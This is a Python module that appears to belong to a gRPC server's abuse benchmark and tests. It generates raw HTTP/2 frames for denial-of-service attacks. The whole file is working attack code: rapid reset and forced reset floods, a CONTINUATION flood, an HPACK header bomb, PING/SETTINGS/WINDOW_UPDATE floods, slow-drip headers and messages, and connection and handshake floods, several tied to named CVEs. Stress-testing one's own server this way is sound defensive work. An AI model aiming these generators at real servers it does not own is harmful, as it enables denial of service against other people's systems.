"""What abusers send: kinds of abuse as frames of HTTP/2, some of which no library would write.

The bench (`make bench-abuse`) sends them as quickly as a server takes them, tests send each once.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

from hpack import Encoder
from zikao_ctl.rush.http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    literal,
)

KIBIBYTE, MEBIBYTE, GIBIBYTE = 2**10, 2**20, 2**30
# What a server of gRPC takes in one frame before it has said more.
MOST_IN_A_FRAME = 16 * KIBIBYTE
A_PIECE = 500
STREAMS_OF_A_CONNECTION = 100
_NUMBER, _SETTING = struct.Struct(">I"), struct.Struct(">HI")
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4

_WIDE = 2**30
_MUCH = _NUMBER.pack(_WIDE)

# Bytes, and how many deeds they are.
Piece = tuple[bytes, int]


@dataclass(frozen=True)
class Call:
    """A call that is abused: its full name, and a request of it."""

    path: str
    request: bytes = b""
    metadata: Sequence[tuple[str, str]] = ()

    def fields(self) -> list[tuple[str, str]]:
        """What its header block says."""
        return [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", self.path),
            (":authority", "enrollment"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *self.metadata,
        ]

    def blocks(self) -> Iterator[bytes]:
        """Its header block again and again: after the first time a few bytes (RFC 7541)."""
        encoder = Encoder()
        while True:
            yield encoder.encode(self.fields())


@dataclass(frozen=True)
class Kind:
    """A kind of abuse. `pieces` of each connection go out as quickly as the server takes them.

    `pause_seconds` lies between them. `settings` are those that the abuser tells the server.
    """

    name: str
    deed: str
    connections: int
    pieces: Callable[[Call], Iterator[Piece]] | None = None
    pause_seconds: float = 0.0
    settings: Sequence[tuple[int, int]] = ((HEADER_TABLE_SIZE, 0),)
    reads: bool = True
    # "mutual": a good certificate; "none": a handshake without one; "half": it never ends;
    # "silent": not even that.
    handshake: str = "mutual"
    comes_again: bool = True
    # The next piece goes out when all deeds of the last one were answered; answers have room.
    awaits_answers: bool = False

    def opening(self) -> bytes:
        """What is said before anything else."""
        settings = frame(SETTINGS, 0, 0, b"".join(_SETTING.pack(*each) for each in self.settings))
        # A server of gRPC takes few calls of who has not heard what it bears.
        settings += frame(SETTINGS, ACK, 0, b"")
        return settings + frame(WINDOW_UPDATE, 0, 0, _MUCH) if self.awaits_answers else settings


def rapid_resets(call: Call) -> Iterator[Piece]:
    """Streams that are opened and reset (CVE-2023-44487)."""
    blocks, stream = call.blocks(), 1
    while True:
        parts = []
        for _ in range(A_PIECE):
            parts.append(frame(HEADERS, END_HEADERS, stream, next(blocks)))
            parts.append(frame(RESET, 0, stream, _NUMBER.pack(CANCEL)))
            stream += 2
        yield b"".join(parts), A_PIECE


def forced_resets(call: Call) -> Iterator[Piece]:
    """Streams that the server has to reset, for an error of ours (CVE-2025-8671)."""
    blocks, stream = call.blocks(), 1
    while True:
        parts = []
        for _ in range(A_PIECE):
            parts.append(frame(HEADERS, END_HEADERS, stream, next(blocks)))
            parts.append(frame(WINDOW_UPDATE, 0, stream, _NUMBER.pack(0)))
            stream += 2
        yield b"".join(parts), A_PIECE


def endless_headers(call: Call) -> Iterator[Piece]:
    """A header block that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, next(call.blocks())), 1
    junk = frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 32))
    while True:
        yield junk * A_PIECE, A_PIECE


def _again(one: bytes) -> Callable[[Call], Iterator[Piece]]:
    def pieces(_: Call) -> Iterator[Piece]:
        while True:
            yield one * A_PIECE, A_PIECE

    return pieces


def empty_data(call: Call) -> Iterator[Piece]:
    """A stream that goes on and says nothing (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, next(call.blocks())), 1
    yield from _again(frame(DATA, 0, 1, b""))(call)


def much_metadata(call: Call) -> Iterator[Piece]:
    """Calls with 1 MiB of metadata each."""
    stream = 1
    while True:
        block = Encoder().encode(call.fields()) + literal(b"x-much", b"m" * MEBIBYTE)
        yield in_frames(stream, block), 1
        stream += 2


def header_bomb(call: Call) -> Iterator[Piece]:
    """Calls whose metadata is large by repeating one byte: an index of a large header."""
    encoder, stream = Encoder(), 1
    while True:
        block = encoder.encode([*call.fields(), ("x-bomb", "b" * 3900)])
        # The youngest entry of the table (RFC 7541, section 2.3.3).
        yield in_frames(stream, block + bytes((0x80 | 62,)) * 15_000), 1
        stream += 2


def huge_announced(call: Call) -> Iterator[Piece]:
    """Messages of 1 GiB as they say; what comes is a byte now and then."""
    blocks = call.blocks()
    streams = range(1, 2 * STREAMS_OF_A_CONNECTION, 2)
    head = b"\0" + _NUMBER.pack(GIBIBYTE)
    for stream in streams:
        yield frame(HEADERS, END_HEADERS, stream, next(blocks)) + frame(DATA, 0, stream, head), 1
    while True:
        yield b"".join(frame(DATA, 0, stream, b"x") for stream in streams), len(streams)


def unfinished_messages(call: Call) -> Iterator[Piece]:
    """Messages as large as may be but for their last bytes, in all streams at once."""
    blocks = call.blocks()
    size = 4 * MEBIBYTE - KIBIBYTE
    streams = range(1, 2 * STREAMS_OF_A_CONNECTION, 2)
    for stream in streams:
        head = b"\0" + _NUMBER.pack(size)
        yield frame(HEADERS, END_HEADERS, stream, next(blocks)) + frame(DATA, 0, stream, head), 1
    part = bytes(MOST_IN_A_FRAME)
    for _ in range(size // MOST_IN_A_FRAME - 1):
        for stream in streams:
            yield frame(DATA, 0, stream, part), 0


def headers_in_drips(call: Call) -> Iterator[Piece]:
    """A header block of which a byte comes now and then."""
    block = next(call.blocks())
    yield frame(HEADERS, 0, 1, block[:1]), 1
    for index in range(1, len(block) - 1):
        yield frame(CONTINUATION, 0, 1, block[index : index + 1]), 1


def messages_in_drips(call: Call) -> Iterator[Piece]:
    """Messages of which a byte comes now and then, in all streams of a connection."""
    yield from _opened(call)
    message = b"\0" + _NUMBER.pack(10_000) + bytes(9_000)
    for byte in message:
        yield (
            b"".join(
                frame(DATA, 0, 1 + 2 * index, bytes((byte,)))
                for index in range(STREAMS_OF_A_CONNECTION)
            ),
            STREAMS_OF_A_CONNECTION,
        )


def silent_streams(call: Call) -> Iterator[Piece]:
    """Calls without a request."""
    yield from _opened(call)


def unread_answers(call: Call) -> Iterator[Piece]:
    """Calls whose answers have no window."""
    yield _calls(call.blocks(), call.request, 1), STREAMS_OF_A_CONNECTION


def lawful_calls(call: Call) -> Iterator[Piece]:
    """Calls as they are meant, more than a caller may hope for."""
    blocks, stream = call.blocks(), 1
    while True:
        yield _calls(blocks, call.request, stream), STREAMS_OF_A_CONNECTION
        stream += 2 * STREAMS_OF_A_CONNECTION


def _calls(blocks: Iterator[bytes], request: bytes, first_stream: int) -> bytes:
    body = b"\0" + _NUMBER.pack(len(request)) + request
    streams = range(first_stream, first_stream + 2 * STREAMS_OF_A_CONNECTION, 2)
    return b"".join(
        frame(HEADERS, END_HEADERS, each, next(blocks)) + frame(DATA, END_STREAM, each, body)
        for each in streams
    )


def _opened(call: Call) -> Iterator[Piece]:
    blocks = call.blocks()
    for index in range(STREAMS_OF_A_CONNECTION):
        yield frame(HEADERS, END_HEADERS, 1 + 2 * index, next(blocks)), 1


def in_frames(stream: int, block: bytes) -> bytes:
    """A header block in as many frames as it needs."""
    parts = [block[at : at + MOST_IN_A_FRAME] for at in range(0, len(block), MOST_IN_A_FRAME)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if index else HEADERS, END_HEADERS if index == last else 0, stream, part)
        for index, part in enumerate(parts)
    )


PINGS = _again(frame(PING, 0, 0, b"abcdefgh"))
SETTINGS_AGAIN = _again(frame(SETTINGS, 0, 0, _SETTING.pack(INITIAL_WINDOW_SIZE, 65_535)))
WINDOW_UPDATES = _again(frame(WINDOW_UPDATE, 0, 0, _NUMBER.pack(1)))
_WIDE_WINDOW = ((HEADER_TABLE_SIZE, 0), (INITIAL_WINDOW_SIZE, _WIDE))
_NO_WINDOW = ((HEADER_TABLE_SIZE, 0), (INITIAL_WINDOW_SIZE, 0))

# For comparison: an abuser's process that does nothing.
NOBODY = Kind("nobody", "deeds", 0)
KINDS = (
    Kind("rapid_reset", "streams opened and reset", 20, rapid_resets),
    Kind("forced_reset", "streams that the server resets", 20, forced_resets),
    Kind("continuation_flood", "CONTINUATION frames", 20, endless_headers),
    Kind("settings_flood", "SETTINGS frames", 20, SETTINGS_AGAIN),
    Kind("settings_flood_unread", "SETTINGS frames", 20, SETTINGS_AGAIN, reads=False),
    Kind("ping_flood", "PING frames", 20, PINGS),
    Kind("empty_data_flood", "empty DATA frames", 20, empty_data),
    Kind("window_update_flood", "WINDOW_UPDATE frames", 20, WINDOW_UPDATES),
    Kind("metadata_1mb", "calls with 1 MiB of metadata", 20, much_metadata),
    Kind("header_bomb", "calls with 58 MiB of metadata in 19 KiB", 20, header_bomb),
    Kind("message_1gb", "messages announced, and their drips", 20, huge_announced, 0.2),
    Kind("unfinished_messages", "messages that lack their end", 20, unfinished_messages),
    Kind("drip_headers", "bytes of header blocks", 400, headers_in_drips, 0.5),
    Kind("drip_messages", "bytes of messages", 20, messages_in_drips, 0.5),
    Kind("silent_streams", "calls without a request", 40, silent_streams),
    Kind("slow_readers", "calls whose answer has no window", 40, unread_answers, 0, _NO_WINDOW),
    Kind("idle_tls", "connections with a certificate", 10_000),
    Kind("idle_tcp", "connections without a handshake", 10_000, handshake="silent"),
    Kind("half_handshakes", "handshakes begun", 1_000, handshake="half"),
    Kind("handshake_flood", "handshakes without a certificate", 50, handshake="none"),
    Kind("lawful_calls", "calls", 20, lawful_calls, 0, _WIDE_WINDOW, awaits_answers=True),
)
